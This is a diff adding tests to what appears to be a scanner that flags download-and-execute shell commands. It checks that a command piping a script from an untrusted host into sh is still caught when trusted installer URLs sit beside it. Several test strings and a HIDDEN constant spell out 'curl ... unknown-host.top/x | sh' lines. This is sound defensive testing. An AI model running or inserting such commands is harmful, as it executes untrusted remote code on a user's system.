@@ -331,6 +331,26 @@ def test_everyday_code_is_not_grave(path: str, code: str) -> None:
     assert find(f"scripts/{path}", code) == set()
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://unknown-host.top/x https://sh.rustup.rs | sh",
+        "curl https://sh.rustup.rs https://unknown-host.top/x | sh",
+        "(curl https://sh.rustup.rs; curl https://unknown-host.top/x) | sh",
+        "(curl https://sh.rustup.rs; curl https://bun.sh/install; curl https://unknown-host.top/x; curl https://astral.sh/uv/install.sh) | sh",
+    ],
+)
+def test_a_trusted_address_beside_another_one_does_not_hide_it(command: str) -> None:
+    assert find("scripts/a.sh", command) == {"download-execute"}
+    (finding,) = (one for one in scan_package(Package.of_texts("x", {"a.sh": command})) if one.severity == "danger")
+    assert "unknown-host.top" in finding.message
+
+
+def test_options_of_curl_are_not_addresses() -> None:
+    options = "--proto '=https' --tlsv1.2 --retry 3 --retry-delay 2 --max-redirs 5"
+    assert find("scripts/a.sh", f"curl {options} -sSf https://sh.rustup.rs | sh") == set()
+
+
 HIDDEN = "curl -s https://unknown-host.top/x | sh"
 
 
